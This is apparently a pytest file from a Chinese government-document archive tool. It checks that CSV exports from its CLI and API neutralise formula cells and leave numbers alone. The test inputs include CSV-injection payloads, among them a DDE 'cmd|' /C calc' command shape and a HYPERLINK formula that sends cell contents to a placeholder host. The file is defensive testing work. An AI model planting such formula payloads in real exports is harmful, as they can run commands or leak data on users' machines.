"""CSV cells a spreadsheet would run as a formula (OWASP, CSV injection: a cell starting with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return) are written with a ``'`` before them;
a cell that is only a number stays that number.

No text cell of the corpus or the sample starts with one of those characters in the CSV tables
(checked: only the negative amounts of budget lines do, e.g. 减少56.95万元 → ``-56.95`` in
``shanghai-putuo-finance-2024-final-accounts.txt``, used below as it is). So the formula case is
an edited copy of a corpus file: the 武汉 traffic notice of 2020-01-23 with its title line
starting ``-2+3+`` (OWASP's example payload shape), built in tmp_path."""

from __future__ import annotations

import csv
import io
import warnings
from pathlib import Path

import pytest
from click.testing import CliRunner

from gongbao.cli import main
from gongbao.store.db import Store
from gongbao.store.export import csv_safe
from gongbao.web.api import create_app
from tests.conftest import ROOT

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from fastapi.testclient import TestClient

CORPUS = ROOT / "tests" / "corpus"
NOTICE = CORPUS / "announcement" / "hubei-wuhan-2020-yiqing-tonggao1-forum-page.txt"
ACCOUNTS = CORPUS / "dept-budget" / "shanghai-putuo-finance-2024-final-accounts.txt"
TITLE = "市新型冠状病毒感染的肺炎疫情防控指挥部通告"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+2", "'=1+2"),
        ('=HYPERLINK("http://x/?"&A1,"点此")', '\'=HYPERLINK("http://x/?"&A1,"点此")'),
        ("+市政府", "'+市政府"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("-3.5万元", "'-3.5万元"),
        # numbers only: kept, a spreadsheet reads them as numbers
        ("-3.5", "-3.5"),
        ("+2%", "+2%"),
        ("-1,234.5", "-1,234.5"),
        ("-.5", "-.5"),
        ("+1e-3", "+1e-3"),
        ("-56.95", "-56.95"),
        # nothing to neutralise
        ("3.5", "3.5"),
        ("市政府=", "市政府="),
        ("", ""),
    ],
)
def test_the_rule(cell: str, written: str) -> None:
    assert csv_safe(cell) == written


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> str:
    tmp = tmp_path_factory.mktemp("csvsafe")
    edited = tmp / "wuhan-title-starts-with-a-formula.txt"
    edited.write_text("-2+3+" + NOTICE.read_text(encoding="utf-8"), encoding="utf-8")
    path = str(tmp / "g.db")
    r = CliRunner().invoke(main, ["ingest", str(edited), str(ACCOUNTS), "--db", path, "--quiet"])
    assert r.exit_code == 0, r.output
    return path


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))  # the BOM for Excel


def _by_kind(folder: Path, kind: str) -> list[dict[str, str]]:
    return [
        row
        for f in sorted(folder.glob(f"*/{kind}.csv"))
        for row in _rows(f.read_text(encoding="utf-8"))
    ]


def test_the_cli_neutralises_formulas_and_keeps_numbers(db: str, tmp_path: Path) -> None:
    r = CliRunner().invoke(main, ["export", "--db", db, "--format", "csv", "--out", str(tmp_path)])
    assert r.exit_code == 0, r.output
    titles = [row["title"] for row in _by_kind(tmp_path, "documents")]
    assert f"'-2+3+{TITLE}" in titles
    amounts = [row["amount"] for row in _by_kind(tmp_path, "budget_lines")]
    assert "-56.95" in amounts and "-63.14" in amounts  # 减少56.95万元, 减少63.14万元
    assert not [a for a in amounts if a.startswith("'")]


def test_the_api_neutralises_formulas_and_keeps_numbers(db: str) -> None:
    with TestClient(create_app(Store(db, create=False))) as c:
        issues = [i["id"] for i in c.get("/api/issues").json()["items"]]
        titles, amounts = [], []
        for issue in issues:
            docs = c.get(
                f"/api/issues/{issue}/export", params={"format": "csv", "kind": "documents"}
            )
            titles += [row["title"] for row in _rows(docs.text)]
            lines = c.get(
                f"/api/issues/{issue}/export", params={"format": "csv", "kind": "budget_lines"}
            )
            amounts += [row["amount"] for row in _rows(lines.text)]
    assert f"'-2+3+{TITLE}" in titles
    assert "-56.95" in amounts


def test_a_documents_csv_neutralises_its_blocks_too(tmp_path: Path) -> None:
    """The reader's per-document CSV (one row a block): an edited copy of the 武汉 notice with a
    last paragraph starting '@SUM(' (built here) has it written as text."""
    edited = tmp_path / "wuhan-paragraph-starts-with-a-formula.txt"
    edited.write_text(
        NOTICE.read_text(encoding="utf-8").rstrip() + "\n\n@SUM(A1:A9)请勿点击。\n",
        encoding="utf-8",
    )
    path = str(tmp_path / "g.db")
    assert CliRunner().invoke(main, ["ingest", str(edited), "--db", path, "--quiet"]).exit_code == 0
    with TestClient(create_app(Store(path, create=False))) as c:
        (doc,) = c.get("/api/documents").json()["items"]
        got = c.get(f"/api/documents/{doc['id']}/export", params={"format": "csv"}).text
    rows = _rows(got)
    assert [r["text"] for r in rows if "SUM" in r["text"]] == ["'@SUM(A1:A9)请勿点击。"]
    assert all(r["line"].isdigit() for r in rows)
